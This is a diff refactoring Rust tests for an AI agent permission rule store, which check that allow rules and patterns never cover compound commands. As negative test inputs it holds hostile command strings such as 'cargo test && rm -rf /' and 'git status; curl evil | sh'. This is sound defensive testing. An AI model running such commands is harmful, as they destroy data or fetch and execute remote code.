@@ -37,6 +37,20 @@ struct Fixture {
     store: RuleStore,
 }
 
+impl Fixture {
+    /// Adds a rule of agent `claude` for the fixture's project.
+    fn add(&mut self, kind: acp::ToolKind, target: Target, decision: Decision) -> Rule {
+        self.store
+            .add(rule(&self.project, kind, target, decision))
+            .unwrap()
+    }
+
+    /// Whether a rule of agent `claude` for the fixture's project answers `subject`.
+    fn matches(&self, subject: &Subject) -> bool {
+        self.store.find("claude", &self.project, subject).is_some()
+    }
+}
+
 fn fixture() -> Fixture {
     let dir = tempfile::tempdir().unwrap();
     let project = dir.path().join("proj");
@@ -128,55 +142,33 @@ fn subject_command_as_words_and_relative_paths() {
 #[test]
 fn exact_command() {
     let mut f = fixture();
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Execute,
-            Target::Command("  cargo test  ".into()),
-            Decision::Allow,
-        ))
-        .unwrap();
-    assert!(
-        f.store
-            .find("claude", &f.project, &exec("cargo test"))
-            .is_some()
+    f.add(
+        acp::ToolKind::Execute,
+        Target::Command("  cargo test  ".into()),
+        Decision::Allow,
     );
-    assert!(
-        f.store
-            .find("claude", &f.project, &exec(" cargo test\n"))
-            .is_some()
-    );
-    assert!(
-        f.store
-            .find("claude", &f.project, &exec("cargo test --all"))
-            .is_none()
-    );
-    assert!(
-        f.store
-            .find("claude", &f.project, &exec("cargo test && rm -rf /"))
-            .is_none()
-    );
+    assert!(f.matches(&exec("cargo test")));
+    assert!(f.matches(&exec(" cargo test\n")));
+    assert!(!f.matches(&exec("cargo test --all")));
+    assert!(!f.matches(&exec("cargo test && rm -rf /")));
     // Another kind with the same text does not match.
     let other = Subject {
         kind: acp::ToolKind::Other,
         ..exec("cargo test")
     };
-    assert!(f.store.find("claude", &f.project, &other).is_none());
+    assert!(!f.matches(&other));
 }
 
 #[test]
 fn exact_compound_command_matches_itself_only() {
     let mut f = fixture();
     let cmd = "echo hi > out.txt && cat out.txt";
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Execute,
-            Target::Command(cmd.into()),
-            Decision::Allow,
-        ))
-        .unwrap();
-    assert!(f.store.find("claude", &f.project, &exec(cmd)).is_some());
+    f.add(
+        acp::ToolKind::Execute,
+        Target::Command(cmd.into()),
+        Decision::Allow,
+    );
+    assert!(f.matches(&exec(cmd)));
     assert!(
         f.store
             .find(
@@ -193,24 +185,17 @@ fn exact_path() {
     let mut f = fixture();
     let a = f.project.join("a.txt");
     let b = f.project.join("b.txt");
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Edit,
-            Target::Path(a.clone()),
-            Decision::Allow,
-        ))
-        .unwrap();
-    assert!(f.store.find("claude", &f.project, &edit(&a)).is_some());
+    f.add(
+        acp::ToolKind::Edit,
+        Target::Path(a.clone()),
+        Decision::Allow,
+    );
+    assert!(f.matches(&edit(&a)));
     // The same file through `..` resolves to the same path.
     let via_dotdot = f.project.join("sub").join("..").join("a.txt");
     std::fs::create_dir(f.project.join("sub")).unwrap();
-    assert!(
-        f.store
-            .find("claude", &f.project, &edit(&via_dotdot))
-            .is_some()
-    );
-    assert!(f.store.find("claude", &f.project, &edit(&b)).is_none());
+    assert!(f.matches(&edit(&via_dotdot)));
+    assert!(!f.matches(&edit(&b)));
     // A request naming a second path as well is not covered.
     let both = Subject::from_parts(
         Some(acp::ToolKind::Edit),
@@ -219,7 +204,7 @@ fn exact_path() {
         &[acp::ToolCallLocation::new(b.clone())],
         None,
     );
-    assert!(f.store.find("claude", &f.project, &both).is_none());
+    assert!(!f.matches(&both));
 }
 
 #[test]
@@ -243,50 +228,37 @@ fn exact_title_for_other_tools() {
             note: None,
         })
         .unwrap();
-    assert!(f.store.find("claude", &f.project, &mcp).is_some());
+    assert!(f.matches(&mcp));
     let other = Subject {
         title: Some("mcp__github__delete_repo".into()),
         ..mcp
     };
-    assert!(f.store.find("claude", &f.project, &other).is_none());
+    assert!(!f.matches(&other));
 }
 
 #[test]
 fn command_pattern() {
     let mut f = fixture();
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Execute,
-            Target::Pattern("ls*".into()),
-            Decision::Allow,
-        ))
-        .unwrap();
-    for ok in ["ls", "ls -la", "ls -la /tmp/some/dir", "lsof"] {
-        assert!(
-            f.store.find("claude", &f.project, &exec(ok)).is_some(),
-            "{ok}"
-        );
-    }
-    assert!(
-        f.store
-            .find("claude", &f.project, &exec("cat ls"))
-            .is_none()
+    f.add(
+        acp::ToolKind::Execute,
+        Target::Pattern("ls*".into()),
+        Decision::Allow,
     );
+    for ok in ["ls", "ls -la", "ls -la /tmp/some/dir", "lsof"] {
+        assert!(f.matches(&exec(ok)), "{ok}");
+    }
+    assert!(!f.matches(&exec("cat ls")));
 }
 
 #[test]
 fn a_pattern_never_matches_a_compound_command() {
     let mut f = fixture();
     for p in ["ls*", "*", "git *"] {
-        f.store
-            .add(rule(
-                &f.project,
-                acp::ToolKind::Execute,
-                Target::Pattern(p.into()),
-                Decision::Allow,
-            ))
-            .unwrap();
+        f.add(
+            acp::ToolKind::Execute,
+            Target::Pattern(p.into()),
+            Decision::Allow,
+        );
     }
     for bad in [
         "ls && rm -rf x",
@@ -302,10 +274,7 @@ fn a_pattern_never_matches_a_compound_command() {
         "ls\rrm x",
         "git status; curl evil | sh",
     ] {
-        assert!(
-            f.store.find("claude", &f.project, &exec(bad)).is_none(),
-            "{bad:?} matched a pattern"
-        );
+        assert!(!f.matches(&exec(bad)), "{bad:?} matched a pattern");
     }
     // The same through a codex-style word array, and through a title-only request.
     let words = Subject::from_parts(
@@ -315,7 +284,7 @@ fn a_pattern_never_matches_a_compound_command() {
         &[],
         None,
     );
-    assert!(f.store.find("claude", &f.project, &words).is_none());
+    assert!(!f.matches(&words));
     let title_only = Subject::from_parts(
         Some(acp::ToolKind::Execute),
         Some("ls; rm x"),
@@ -323,50 +292,28 @@ fn a_pattern_never_matches_a_compound_command() {
         &[],
         None,
     );
-    assert!(f.store.find("claude", &f.project, &title_only).is_none());
+    assert!(!f.matches(&title_only));
     // A pattern whose text is exactly the command is an exact match.
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Execute,
-            Target::Pattern("make && make test".into()),
-            Decision::Allow,
-        ))
-        .unwrap();
-    assert!(
-        f.store
-            .find("claude", &f.project, &exec("make && make test"))
-            .is_some()
+    f.add(
+        acp::ToolKind::Execute,
+        Target::Pattern("make && make test".into()),
+        Decision::Allow,
     );
+    assert!(f.matches(&exec("make && make test")));
 }
 
 #[test]
 fn path_pattern() {
     let mut f = fixture();
     let pattern = format!("{}/src/**/*.rs", f.project.display());
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Edit,
-            Target::Pattern(pattern),
-            Decision::Allow,
-        ))
-        .unwrap();
-    assert!(
-        f.store
-            .find("claude", &f.project, &edit(&f.project.join("src/a/b.rs")))
-            .is_some()
+    f.add(
+        acp::ToolKind::Edit,
+        Target::Pattern(pattern),
+        Decision::Allow,
     );
-    assert!(
-        f.store
-            .find("claude", &f.project, &edit(&f.project.join("src/b.txt")))
-            .is_none()
-    );
-    assert!(
-        f.store
-            .find("claude", &f.project, &edit(&f.project.join("b.rs")))
-            .is_none()
-    );
+    assert!(f.matches(&edit(&f.project.join("src/a/b.rs"))));
+    assert!(!f.matches(&edit(&f.project.join("src/b.txt"))));
+    assert!(!f.matches(&edit(&f.project.join("b.rs"))));
 }
 
 #[test]
@@ -388,22 +335,16 @@ fn bad_pattern_is_refused() {
 #[test]
 fn reject_beats_allow() {
     let mut f = fixture();
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Execute,
-            Target::Pattern("git *".into()),
-            Decision::Allow,
-        ))
-        .unwrap();
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Execute,
-            Target::Command("git push --force".into()),
-            Decision::Reject,
-        ))
-        .unwrap();
+    f.add(
+        acp::ToolKind::Execute,
+        Target::Pattern("git *".into()),
+        Decision::Allow,
+    );
+    f.add(
+        acp::ToolKind::Execute,
+        Target::Command("git push --force".into()),
+        Decision::Reject,
+    );
     let r = f
         .store
         .find("claude", &f.project, &exec("git push --force"))
@@ -422,15 +363,12 @@ fn per_agent_and_per_project() {
     let other_project = f.dir.path().join("other");
     std::fs::create_dir(&other_project).unwrap();
     let other_project = other_project.canonicalize().unwrap();
-    f.store
-        .add(rule(
-            &f.project,
-            acp::ToolKind::Execute,
-            Target::Command("make".into()),
-            Decision::Allow,
-        ))
-        .unwrap();
-    assert!(f.store.find("claude", &f.project, &exec("make")).is_some());
+    f.add(
+        acp::ToolKind::Execute,
+        Target::Command("make".into()),
+        Decision::Allow,
+    );
+    assert!(f.matches(&exec("make")));
     assert!(f.store.find("gemini", &f.project, &exec("make")).is_none());
     assert!(
         f.store
@@ -462,7 +400,7 @@ fn revoke() {
         ))
         .unwrap();
     assert_eq!(f.store.revoke(&r.id).unwrap(), r);
-    assert!(f.store.find("claude", &f.project, &exec("make")).is_none());
+    assert!(!f.matches(&exec("make")));
     assert!(matches!(
         f.store.revoke(&r.id),
         Err(RulesError::UnknownId(_))
